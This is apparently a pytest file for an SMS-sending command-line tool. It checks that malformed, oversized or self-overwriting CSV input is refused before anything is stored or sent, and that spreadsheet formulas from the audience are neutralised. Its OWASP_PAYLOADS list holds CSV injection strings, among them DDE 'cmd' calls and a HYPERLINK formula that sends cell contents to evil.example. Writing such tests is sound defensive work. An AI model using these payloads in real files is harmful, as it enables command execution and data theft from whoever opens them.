"""A hostile trial's audience files through the real commands: nothing cut short, merged or
overwritten, results always reachable, and what a spreadsheet opens is safe.

Each test here failed on the release before it (the issue "Trust defects found by a
hostile trial"), and each checks that nothing was stored or sent when the file is refused.
"""

from __future__ import annotations

import codecs
import shutil
import sqlite3
import threading
import time
from pathlib import Path

import pytest

from tests.clikit import InProcessCli, Simulator, audience, read_csv, write_csv

HOSTILE_LINE = '3,"Name3 (VIP,Berlin,+12125570003'


def _thousand_with_an_unclosed_quote(path: Path) -> Path:
    lines = ["id,name,phone"]
    lines += [f"{i},Name{i},+1212557{i:04d}" for i in range(1, 1001)]
    lines[4] = HOSTILE_LINE  # line 5 of the file
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _runs_stored(cli: InProcessCli) -> int:
    database = cli.home / "smslink.db"
    if not database.exists():
        return 0
    with sqlite3.connect(database) as db:
        return db.execute("SELECT count(*) FROM runs").fetchone()[0]


@pytest.mark.parametrize(
    "command",
    [
        ["send", "hello"],
        ["send", "hello", "--dry-run"],
        ["touchpoint", "preview", "hello"],
    ],
    ids=["send", "dry-run", "preview"],
)
def test_an_unclosed_quote_stops_before_anything_is_stored_or_sent(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path, command: list[str]
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = _thousand_with_an_unclosed_quote(tmp_path / "a.csv")
    out = tmp_path / "out.csv"
    args = [*command, "--input", str(source)]
    if command[0] == "send":
        args += ["--output", str(out)]

    result = cli.run(*args, check=False)

    assert result.returncode == 2
    assert "unclosed quote on line 5" in result.stderr
    assert "close the quote" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert not out.exists()
    assert _runs_stored(cli) == 0
    assert simulator.stats()["posts"] == 0


def test_a_stray_quote_that_closes_later_cannot_swallow_records(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    lines = ["id,name,phone"] + [f"{i},Name{i},+1212557{i:04d}" for i in range(1, 101)]
    lines[10] = '10,"Name10,+12125570010'  # opens on line 11 ...
    lines[40] = '40,Name40",+12125570040'  # ... and a stray quote closes it on line 41
    source = tmp_path / "a.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")

    result = cli.run("send", "hello", "--input", str(source), "--output", "o.csv", check=False)

    assert result.returncode == 2 and "line 11" in result.stderr
    assert simulator.stats()["posts"] == 0


@pytest.mark.parametrize("where", ["one line", "one field"])
def test_oversized_input_is_one_clear_line_before_sending(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path, where: str
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = tmp_path / "big.csv"
    with source.open("w", encoding="utf-8") as file:
        if where == "one line":  # 50 MB without a line break
            file.write("id,name,phone" + ",x" * 25_000_000)
        else:  # a 50 MB field half-way through an otherwise good file
            file.write("id,name,phone\n")
            file.writelines(f"{i},N{i},+1212557{i:04d}\n" for i in range(500))
            file.write('500,"' + "x" * 50_000_000 + '",+12125570500\n')
            file.writelines(f"{i},N{i},+1212557{i:04d}\n" for i in range(501, 1000))

    result = cli.run("send", "hello", "--input", str(source), "--output", "o.csv", check=False)

    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("error: big.csv")
    assert ("line 1 " if where == "one line" else "line 502") in result.stderr
    assert _runs_stored(cli) == 0 and simulator.stats()["posts"] == 0


def test_a_header_without_records_is_refused_and_previewed_as_empty(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = write_csv(tmp_path / "empty.csv", ["id", "name", "phone"], [])

    sent = cli.run("send", "hello", "--input", str(source), "--output", "o.csv", check=False)
    previewed = cli.run("touchpoint", "preview", "hello", "--input", str(source))

    assert sent.returncode == 2 and "no records" in sent.stderr
    assert _runs_stored(cli) == 0
    assert "has no records" in previewed.stdout


@pytest.mark.parametrize("how", ["same path", "relative detour", "symlink", "hard link"])
def test_the_output_can_never_be_the_audience_itself(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path, how: str
) -> None:
    cli.add_touchpoint(simulator.base_url)
    (tmp_path / "x").mkdir()
    victim = tmp_path / "x" / "victim.csv"
    original = "id;name;phone;Straße\r\n1;Jörg;+12125550101;Hauptstraße 1\r\n".encode("cp1252")
    victim.write_bytes(original)
    output = {
        "same path": victim,
        "relative detour": tmp_path / "x" / ".." / "x" / "victim.csv",
        "symlink": tmp_path / "link.csv",
        "hard link": tmp_path / "hard.csv",
    }[how]
    if how == "symlink":
        output.symlink_to(victim)
    elif how == "hard link":
        output.hardlink_to(victim)

    for extra in ([], ["--overwrite"]):
        result = cli.run(
            "send", "hello", "--input", str(victim), "--output", str(output),
            "--encoding", "cp1252", *extra, check=False,
        )  # fmt: skip
        assert result.returncode == 2 and "audience" in result.stderr
    dry = cli.run(
        "send", "hello", "--dry-run", "--input", str(victim), "--output", str(output),
        "--encoding", "cp1252", check=False,
    )  # fmt: skip

    assert dry.returncode == 2
    assert victim.read_bytes() == original
    assert simulator.stats()["posts"] == 0


def test_an_existing_file_that_is_not_a_results_file_needs_overwrite(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = audience(tmp_path / "a.csv", 3)
    precious = tmp_path / "report.csv"
    precious.write_text("quarter,revenue\nQ1,100\n", encoding="utf-8")

    refused = cli.run(
        "send", "hello", "--input", str(source), "--output", str(precious), check=False
    )
    assert refused.returncode == 2 and "--overwrite" in refused.stderr
    assert precious.read_text(encoding="utf-8") == "quarter,revenue\nQ1,100\n"
    assert simulator.stats()["posts"] == 0

    cli.run("send", "hello", "--input", str(source), "--output", str(precious), "--overwrite")
    assert [r["status"] for r in read_csv(precious)] == ["delivered"] * 3
    # A results file of smslink may be replaced by the next send without asking.
    other = audience(tmp_path / "b.csv", 3, start=10)
    cli.run("send", "hello", "--input", str(other), "--output", str(precious))
    assert [r["id"] for r in read_csv(precious)] == ["C00010", "C00011", "C00012"]


def test_an_output_place_that_cannot_take_a_file_is_refused_up_front(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = audience(tmp_path / "a.csv", 3)

    result = cli.run(
        "send", "hello", "--input", str(source), "--output", "/proc/out.csv", check=False
    )

    assert result.returncode == 2 and "/proc/out.csv" in result.stderr
    assert _runs_stored(cli) == 0 and simulator.stats()["posts"] == 0


def test_results_that_could_not_be_written_are_exported_and_resumed_elsewhere(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    """The folder disappears while the run sends: the run stops (exit 1), nothing is lost;
    `runs export` writes the results anywhere, and `runs resume --output` finishes it."""
    cli.add_touchpoint(simulator.base_url)
    source = audience(tmp_path / "a.csv", 20)
    folder = tmp_path / "gone"
    folder.mkdir()

    def remove_the_folder_once_the_run_exists() -> None:
        while not _runs_stored(cli):  # it exists only after its output path was checked
            time.sleep(0.005)
        shutil.rmtree(folder)

    remover = threading.Thread(target=remove_the_folder_once_the_run_exists)
    remover.start()
    stopped = cli.run(
        "send", "hello", "--input", str(source), "--output", str(folder / "out.csv"), check=False
    )
    remover.join()

    assert stopped.returncode == 1
    assert "could not be written" in stopped.stderr
    assert "smslink runs resume 1 --output" in stopped.stderr
    assert simulator.stats()["posts"] == 20

    jsonl = tmp_path / "now.jsonl"
    exported = cli.run("runs", "export", "1", "--output", str(jsonl))
    assert "20 records" in exported.stdout
    assert len(jsonl.read_text(encoding="utf-8").splitlines()) == 20

    cli.run("runs", "resume", "1", "--output", str(tmp_path / "elsewhere.csv"))
    rows = read_csv(tmp_path / "elsewhere.csv")
    assert [r["status"] for r in rows] == ["delivered"] * 20
    assert simulator.stats()["posts"] == 20  # resuming sent nothing again
    assert "completed" in cli.run("runs", "show", "1").stdout
    # A completed run's results can be written again, any number of times.
    cli.run("runs", "export", "1", "--output", str(tmp_path / "again.csv"))
    assert read_csv(tmp_path / "again.csv") == rows


def test_export_of_an_unfinished_run_says_which_records_are_not_final(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = audience(tmp_path / "a.csv", 4)
    run_id = _stored_run(cli, source, tmp_path / "out.csv")

    result = cli.run("runs", "export", str(run_id), "--output", str(tmp_path / "now.csv"))

    rows = read_csv(tmp_path / "now.csv")
    assert [r["status"] for r in rows] == ["unfinished"] * 4
    assert "4 of them are not final yet" in result.stdout
    assert simulator.stats()["posts"] == 0


def _stored_run(cli: InProcessCli, source: Path, output: Path) -> int:
    """A run created (checked and stored) but not started: what a crash right after
    `send` began would leave."""
    from smslink.engine import RunRequest, start_run
    from smslink.store import open_store
    from smslink.store.secrets import SecretBox

    with open_store(
        f"sqlite:///{cli.home / 'smslink.db'}", secret_box=SecretBox(home=cli.home)
    ) as store:
        return start_run(store, RunRequest("hello", source, output))


@pytest.mark.parametrize("change", ["replaced", "appended", "removed"])
def test_resume_refuses_an_audience_file_that_changed(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path, change: str
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = audience(tmp_path / "a.csv", 10)
    run_id = _stored_run(cli, source, tmp_path / "out.csv")
    if change == "replaced":
        audience(source, 10, start=100)  # same size, other people
    elif change == "appended":
        with source.open("a", encoding="utf-8") as file:
            file.write("C99999,Late,+12125559999\n")
    else:
        source.unlink()

    result = cli.run("runs", "resume", str(run_id), check=False)

    assert result.returncode == 2
    assert f"run {run_id} cannot read on" in result.stderr
    expected = "cannot be read" if change == "removed" else "has changed since the run started"
    assert expected in result.stderr
    assert simulator.stats()["posts"] == 0
    assert "created" in cli.run("runs", "show", str(run_id)).stdout


OWASP_PAYLOADS = [
    "=1+2",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    "=cmd|' /C calc'!A0",
]


def test_spreadsheet_formulas_from_the_audience_are_written_inert(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    rows = [[f"C{i}", payload, f"+1212555{i:04d}"] for i, payload in enumerate(OWASP_PAYLOADS)]
    rows.append(["-5", "Plain", "+14155550123"])
    source = write_csv(tmp_path / "a.csv", ["id", "name", "phone"], rows)
    out = tmp_path / "out.csv"

    cli.run("send", "hello", "--input", str(source), "--output", str(out))

    written = read_csv(out)
    assert [r["name"] for r in written[:-1]] == ["'" + p for p in OWASP_PAYLOADS]
    assert (written[-1]["id"], written[-1]["phone"], written[-1]["to"]) == (
        "-5",
        "+14155550123",
        "+14155550123",
    )


@pytest.mark.parametrize(
    ("name", "encoding", "bom", "delimiter"),
    [
        ("excel.csv", "cp1252", False, ";"),
        ("bom.csv", "utf-8-sig", True, ";"),
        ("unicode.csv", "utf-16", True, "\t"),
        ("tabs.tsv", "utf-8", False, "\t"),
    ],
)
def test_results_keep_the_spreadsheets_delimiter_and_open_right_in_excel(
    cli: InProcessCli,
    simulator: Simulator,
    tmp_path: Path,
    name: str,
    encoding: str,
    bom: bool,
    delimiter: str,
) -> None:
    cli.add_touchpoint(simulator.base_url)
    text = f"id{delimiter}name{delimiter}phone\r\n1{delimiter}Jörg{delimiter}+12125550101\r\n"
    source = tmp_path / name
    source.write_bytes(text.encode(encoding))
    out = tmp_path / ("out.tsv" if name.endswith(".tsv") else "out.csv")
    extra = ["--encoding", "cp1252"] if encoding == "cp1252" else []

    cli.run("send", "hello", "--input", str(source), "--output", str(out), *extra)

    raw = out.read_bytes()
    excel = encoding != "utf-8"
    assert raw.startswith(codecs.BOM_UTF8) == excel  # Excel-made input: UTF-8 with a BOM
    header, row = raw.decode("utf-8-sig").splitlines()[:2]
    assert header.split(delimiter)[:4] == ["id", "name", "phone", "to"]
    assert row.split(delimiter)[1] == "Jörg" and "delivered" in row.split(delimiter)


def test_an_excel_sep_line_sets_the_delimiter(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = tmp_path / "a.csv"
    source.write_text("sep=;\nid;name;phone\n1;Ann, Jr.;+12125550101\n", encoding="utf-8")
    out = tmp_path / "out.csv"

    cli.run("send", "hello", "--input", str(source), "--output", str(out))

    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "sep=;" and lines[1].startswith("id;name;phone;to;status")
    assert lines[2].split(";")[1] == "Ann, Jr."


def test_a_json_lines_line_that_does_not_parse_keeps_its_content_in_the_results(
    cli: InProcessCli, simulator: Simulator, tmp_path: Path
) -> None:
    cli.add_touchpoint(simulator.base_url)
    source = tmp_path / "a.jsonl"
    source.write_text(
        '{"name": "Ann", "phone": "+12125550101"}\n{"name": "Bob", "phone": +1212555\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"

    cli.run("send", "hello", "--input", str(source), "--output", str(out))

    first, broken = read_csv(out)
    assert first["status"] == "delivered"
    assert broken["status"] == "error"
    assert '{"name": "Bob", "phone": +1212555' in broken["error_message"]
